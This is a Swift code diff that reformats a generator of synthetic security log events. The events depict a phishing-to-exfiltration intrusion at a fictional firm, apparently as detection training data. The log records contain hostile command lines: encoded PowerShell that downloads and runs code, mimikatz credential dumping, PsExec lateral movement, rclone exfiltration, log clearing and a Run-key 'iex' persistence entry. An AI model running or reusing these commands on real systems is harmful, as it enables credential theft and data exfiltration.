@@ -15,12 +15,16 @@ struct StoryEvent: Sendable {
     }
 
     /// In order of time.
-    static let all: [StoryEvent] = (entry + beacons + theft + movement + upload + traces).sorted { $0.offset < $1.offset }
+    static let all: [StoryEvent] = (entry + beacons + theft + movement + upload + traces).sorted {
+        $0.offset < $1.offset
+    }
 
     // MARK: Tuesday: the mail
 
     private static let entry: [StoryEvent] = [
-        StoryEvent(1, (8, 41, 12), #"""
+        StoryEvent(
+            1, (8, 41, 12),
+            #"""
             event.action = Delivered
             event.category := ["email"]
             event.type := ["info"]
@@ -32,10 +36,29 @@ struct StoryEvent: Sendable {
             source.ip = 192.0.2.77
             message =json= {"Organization":"halden.example","MessageId":"<20260113084109.8A1C@halden-sso.example>","Received":"${time:isoSeconds}","SenderAddress":"facturation@halden-sso.example","RecipientAddress":"élodie.marchand@halden.example","Subject":"Facture impayée n° 2026-0117","Status":"Delivered","FromIP":"192.0.2.77","Size":121877}
             """#),
-        StoryEvent(1, (9, 2, 37), sysmonFile(#"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#, #"C:\Users\élodie.marchand\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\Facture_Janvier_2026.docm"#)),
-        StoryEvent(1, (9, 3, 2), sysmonProcess(#"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#, #""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\élodie.marchand\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\Facture_Janvier_2026.docm""#, #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#, "5d1b1f2a7c0f4a54b4f3b6c1d0a9e87766554433221100ffeeddccbbaa998877")),
-        StoryEvent(1, (9, 3, 19), sysmonProcess(powershell, #"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#, #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#, "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f")),
-        StoryEvent(1, (9, 3, 20), #"""
+        StoryEvent(
+            1, (9, 2, 37),
+            sysmonFile(
+                #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#,
+                #"C:\Users\élodie.marchand\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\Facture_Janvier_2026.docm"#
+            )),
+        StoryEvent(
+            1, (9, 3, 2),
+            sysmonProcess(
+                #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
+                #""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\élodie.marchand\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QK2M1ZD\Facture_Janvier_2026.docm""#,
+                #"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"#,
+                "5d1b1f2a7c0f4a54b4f3b6c1d0a9e87766554433221100ffeeddccbbaa998877")),
+        StoryEvent(
+            1, (9, 3, 19),
+            sysmonProcess(
+                powershell,
+                #"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#,
+                #"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"#,
+                "9f914d42706fe215501044acd85a32d58aaef1419d404fddfa5d3b48f66ccd9f")),
+        StoryEvent(
+            1, (9, 3, 20),
+            #"""
             event.code = 22
             event.provider = Microsoft-Windows-Sysmon
             event.action = Dns query (rule: DnsQuery)
@@ -56,15 +79,23 @@ struct StoryEvent: Sendable {
 
     private static let beacons: [StoryEvent] = (0..<36).map { number in
         let minute = 9 * 60 + 20 + number * 20
-        return StoryEvent(1, (minute / 60, minute % 60, (number * 7) % 60), proxy("POST", "cdn.halden-sso.example", "/u/c", 212, 48 + number % 5))
+        return StoryEvent(
+            1, (minute / 60, minute % 60, (number * 7) % 60),
+            proxy("POST", "cdn.halden-sso.example", "/u/c", 212, 48 + number % 5))
     }
 
     // MARK: Wednesday: credentials
 
     private static let theft: [StoryEvent] = [
         StoryEvent(2, (14, 7, 51), sysmonFile(powershell, #"C:\ProgramData\é\m1.exe"#)),
-        StoryEvent(2, (14, 8, 3), sysmonProcess(#"C:\ProgramData\é\m1.exe"#, #"m1.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, powershell, mimikatzHash)),
-        StoryEvent(2, (14, 8, 4), #"""
+        StoryEvent(
+            2, (14, 8, 3),
+            sysmonProcess(
+                #"C:\ProgramData\é\m1.exe"#, #"m1.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#, powershell,
+                mimikatzHash)),
+        StoryEvent(
+            2, (14, 8, 4),
+            #"""
             event.code = 10
             event.provider = Microsoft-Windows-Sysmon
             event.action = Process accessed (rule: ProcessAccess)
@@ -78,7 +109,9 @@ struct StoryEvent: Sendable {
             winlog.event_data.GrantedAccess = 0x1010
             message = Process accessed:⏎UtcTime: ${time:spaceMillis}⏎SourceImage: C:\ProgramData\é\m1.exe⏎TargetImage: C:\Windows\System32\lsass.exe⏎GrantedAccess: 0x1010
             """#),
-        StoryEvent(2, (14, 8, 31), #"""
+        StoryEvent(
+            2, (14, 8, 31),
+            #"""
             event.kind = alert
             event.category := ["intrusion_detection"]
             event.type := ["info"]
@@ -100,7 +133,9 @@ struct StoryEvent: Sendable {
     private static let movement: [StoryEvent] = [
         StoryEvent(2, (22, 16, 40), logon("FS-PAR-0009", failed: true)),
         StoryEvent(2, (22, 16, 55), logon("FS-PAR-0009", failed: false)),
-        StoryEvent(2, (22, 17, 1), #"""
+        StoryEvent(
+            2, (22, 17, 1),
+            #"""
             event.code = 7045
             event.provider = Service Control Manager
             event.action = service-installed
@@ -114,7 +149,9 @@ struct StoryEvent: Sendable {
             winlog.event_data.AccountName = LocalSystem
             message = A service was installed in the system.⏎⏎Service Name:  PSEXESVC⏎Service File Name:  %SystemRoot%\PSEXESVC.exe⏎Service Start Type:  demand start⏎Service Account:  LocalSystem
             """#),
-        StoryEvent(2, (22, 24, 9), #"""
+        StoryEvent(
+            2, (22, 24, 9),
+            #"""
             event.code = 5140
             event.provider = Microsoft-Windows-Security-Auditing
             event.action = network-share-object-accessed
@@ -130,7 +167,9 @@ struct StoryEvent: Sendable {
             winlog.event_data.AccessMask = 0x12019f
             message = A network share object was accessed.⏎⏎Subject:⏎⇥Account Name:⇥⇥svc-backup-7⏎⇥Account Domain:⇥⇥HALDEN⏎⏎Network Information:⏎⇥Source Address:⇥⇥10.20.17.42⏎⏎Share Information:⏎⇥Share Name:⇥⇥\\*\compta⏎⇥Share Path:⇥⇥\??\D:\Shares\compta
             """#),
-        StoryEvent(2, (22, 41, 30), #"""
+        StoryEvent(
+            2, (22, 41, 30),
+            #"""
             event.code = 4688
             event.provider = Microsoft-Windows-Security-Auditing
             event.action = created-process
@@ -151,7 +190,9 @@ struct StoryEvent: Sendable {
     // MARK: Thursday before dawn: out
 
     private static let upload: [StoryEvent] = (0..<9).map { number in
-        StoryEvent(3, (2, 10 + number * 4, 11 + number), #"""
+        StoryEvent(
+            3, (2, 10 + number * 4, 11 + number),
+            #"""
             event.action = allow
             event.category := ["network"]
             event.type := ["connection","allowed"]
@@ -176,7 +217,9 @@ struct StoryEvent: Sendable {
     // MARK: Thursday: traces, and what came late
 
     private static let traces: [StoryEvent] = [
-        StoryEvent(3, (2, 58, 20), #"""
+        StoryEvent(
+            3, (2, 58, 20),
+            #"""
             event.code = 1102
             event.provider = Microsoft-Windows-Eventlog
             event.action = audit-log-cleared
@@ -188,9 +231,17 @@ struct StoryEvent: Sendable {
             user.name = svc-backup-7
             message = The audit log was cleared.⏎Subject:⏎⇥Account Name:⇥svc-backup-7⏎⇥Domain Name:⇥HALDEN
             """#),
-        StoryEvent(2, (22, 19, 44), arrivesLater: true, sysmonServer(#"C:\Windows\System32\cmd.exe"#, "cmd.exe /c vssadmin list shadows")),
-        StoryEvent(2, (22, 20, 10), arrivesLater: true, sysmonServer(#"C:\Windows\System32\net.exe"#, #"net.exe group "Domain Admins" /domain"#)),
-        StoryEvent(3, (2, 9, 2), arrivesLater: true, sysmonServer(#"C:\Windows\Temp\rclone.exe"#, #"rclone.exe copy C:\Windows\Temp out: --include upd.part*.rar --config C:\Windows\Temp\é.conf"#)),
+        StoryEvent(
+            2, (22, 19, 44), arrivesLater: true,
+            sysmonServer(#"C:\Windows\System32\cmd.exe"#, "cmd.exe /c vssadmin list shadows")),
+        StoryEvent(
+            2, (22, 20, 10), arrivesLater: true,
+            sysmonServer(#"C:\Windows\System32\net.exe"#, #"net.exe group "Domain Admins" /domain"#)),
+        StoryEvent(
+            3, (2, 9, 2), arrivesLater: true,
+            sysmonServer(
+                #"C:\Windows\Temp\rclone.exe"#,
+                #"rclone.exe copy C:\Windows\Temp out: --include upd.part*.rar --config C:\Windows\Temp\é.conf"#)),
     ]
 }
 
@@ -279,7 +330,9 @@ extension StoryEvent {
         message = Registry value set:⏎EventType: SetValue⏎UtcTime: ${time:spaceMillis}⏎Image: C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe⏎TargetObject: HKU\S-1-5-21-3623811015-3361044348-30300820-1417\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive Update⏎Details: powershell.exe -w hidden -c "iex (gc $env:APPDATA\é.txt -Raw)"
         """#
 
-    private static func proxy(_ method: String, _ domain: String, _ path: String, _ received: Int, _ milliseconds: Int) -> String {
+    private static func proxy(_ method: String, _ domain: String, _ path: String, _ received: Int, _ milliseconds: Int)
+        -> String
+    {
         #"""
         event.action = TCP_MISS
         event.category := ["web","network"]
